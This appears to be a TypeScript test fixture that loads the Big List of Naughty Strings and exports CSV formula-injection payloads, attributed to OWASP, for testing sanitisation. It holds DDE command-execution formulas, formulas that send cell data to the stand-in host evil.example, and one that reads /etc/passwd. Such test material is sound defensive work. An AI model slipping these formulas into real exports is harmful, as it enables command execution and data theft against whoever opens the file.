// Strings that have broken software elsewhere, for whatever takes a text through to the other side. naughty-strings.json is the
// Big List of Naughty Strings, https://github.com/minimaxir/big-list-of-naughty-strings, as published (MIT licence,
// Copyright (c) 2015-2020 Max Woolf). `formulas` are those of OWASP's page on CSV injection, and what hides them.
import { readFileSync } from 'node:fs';

export const naughtyStrings = JSON.parse(
  readFileSync(new URL('./naughty-strings.json', import.meta.url), 'utf8'),
) as readonly string[];

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '\0'];
const before = ['', ' ', '   ', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u200e', '\v', '\f', '\t', '\r\n'];

export const formulas: readonly string[] = [
  '=1+2";=1+2',
  `=1+2'" ;,=1+2`,
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  `=cmd|' /C calc'!A0`,
  `=cmd|' /C notepad'!'A1'`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `=10+20+cmd|' /C calc'!A0`,
  `;=cmd|' /C calc'!A0`,
  `,=cmd|' /C calc'!A0`,
  `";=cmd|' /C calc'!A0;"`,
  `"\r\n=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("http://evil.example?"&A1)',
  `='file:///etc/passwd'#$passwd.A1`,
  '＝1+1',
  ...before.flatMap((blank) => starts.map((start) => `${blank}${start}1+1`)),
];
